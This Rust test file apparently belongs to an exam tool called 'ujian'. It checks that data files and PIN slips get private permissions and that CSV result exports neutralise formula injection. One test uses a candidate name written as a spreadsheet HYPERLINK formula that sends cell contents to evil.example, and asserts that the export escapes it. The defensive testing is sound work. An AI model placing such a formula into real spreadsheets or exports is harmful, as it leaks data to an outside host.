//! What ujian leaves on disk: file modes in the data dir and PIN slips, and result CSVs a
//! spreadsheet opens without running anything in them.

use std::path::Path;
use std::process::Command;

use crate::helpers::{PIN, Setup, TestApp, best_and_worst, participant, repo};

fn ujian(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_ujian")).args(args).current_dir(repo("")).output().expect("run ujian");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into(),
        String::from_utf8_lossy(&out.stderr).into(),
    )
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path).unwrap_or_else(|e| panic!("{}: {e}", path.display())).permissions().mode() & 0o777
}

/// Every directory under `dir` (itself included) and every file in them, with its mode.
#[cfg(unix)]
fn modes_under(dir: &Path) -> Vec<(String, u32)> {
    let mut out = vec![(dir.display().to_string(), mode(dir))];
    for entry in std::fs::read_dir(dir).expect("read dir") {
        let path = entry.expect("entry").path();
        if path.is_dir() {
            out.extend(modes_under(&path));
        } else {
            out.push((path.display().to_string(), mode(&path)));
        }
    }
    out
}

#[cfg(unix)]
#[test]
fn another_user_on_the_machine_cannot_read_the_data_dir_or_the_pin_slips() {
    let dir = tempfile::tempdir().expect("tmp");
    let data = dir.path().join("data");
    let d = data.to_str().expect("utf8");
    let csv = dir.path().join("peserta.csv");
    std::fs::write(&csv, "participant_no,name\nA-1,Ani\n").expect("write");
    let pins = dir.path().join("pins.csv");
    for args in [
        vec!["--data-dir", d, "exam", "import", "question-banks/exams/sample-en.toml"],
        vec![
            "--data-dir",
            d,
            "candidates",
            "import",
            csv.to_str().expect("utf8"),
            "--pins-out",
            pins.to_str().expect("utf8"),
        ],
    ] {
        let (code, out, err) = ujian(&args);
        assert_eq!(code, 0, "{out}{err}");
    }
    assert_eq!(mode(&pins), 0o600, "PIN slips");
    let modes = modes_under(&data);
    assert!(modes.iter().any(|(p, _)| p.ends_with("ujian.db")), "{modes:?}");
    assert!(modes.iter().any(|(p, _)| p.ends_with("pin-hmac.key")), "{modes:?}");
    for (path, m) in &modes {
        let expected = if Path::new(path).is_dir() { 0o700 } else { 0o600 };
        assert_eq!(*m, expected, "{path}: {m:o}");
    }
}

#[cfg(unix)]
#[tokio::test]
async fn the_database_and_its_journal_files_are_private_even_without_the_binarys_umask() {
    // The test process keeps its own umask: the store sets the modes itself.
    let app = TestApp::spawn(Setup::tiny(1)).await;
    let _c = app.candidate(1).await;
    for file in ["ujian.db", "ujian.db-wal", "ujian.db-shm"] {
        let path = app.dir.path().join(file);
        assert_eq!(mode(&path), 0o600, "{file}");
    }
}

#[tokio::test]
async fn a_candidate_named_like_a_formula_is_exported_as_text_and_negative_scores_stay_numbers() {
    let mut app = TestApp::spawn(Setup::tiny(1)).await;
    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Klik")"#;
    let pins = server::credentials::PinKey::load_or_create(app.dir.path()).expect("pin key");
    let renamed = store::NewCandidate {
        participant_no: participant(1),
        name: formula.into(),
        birth_date: None,
        pin_hash: pins.hash_pin(&participant(1), PIN),
        accommodation: None,
    };
    app.store().put_candidates(&[renamed], chrono::Utc::now()).await.expect("rename");
    // Both keyed questions answered wrong: -1 each (the tiny exam's rule).
    let mut c = app.candidate(1).await;
    let key = best_and_worst(&app, &format!("T-1.{}", participant(1))).await;
    for (q, (_, worst, ..)) in key.iter().enumerate().take(2) {
        c.answer(q, Some(worst)).await;
    }
    c.finish().await;
    let (dir, url) = (app.dir.path().to_owned(), app.url.clone());
    app.shutdown().await;
    let (code, out, err) = ujian(&[
        "--data-dir",
        dir.to_str().expect("utf8"),
        "--database",
        &url,
        "results",
        "export",
        "--sitting",
        "T-1",
        "--provisional",
    ]);
    assert_eq!(code, 0, "{err}");
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let headers = reader.headers().expect("header").clone();
    let row = reader.records().next().expect("a row").expect("csv");
    let cell = |name: &str| row.get(headers.iter().position(|h| h == name).expect(name)).expect(name).to_owned();
    assert_eq!(cell("name"), format!("'{formula}"), "the name is text, not a formula");
    assert_eq!(cell("K"), "-2", "a negative score stays a number");
    assert_eq!(cell("total").parse::<i64>().ok(), Some(-2));
}
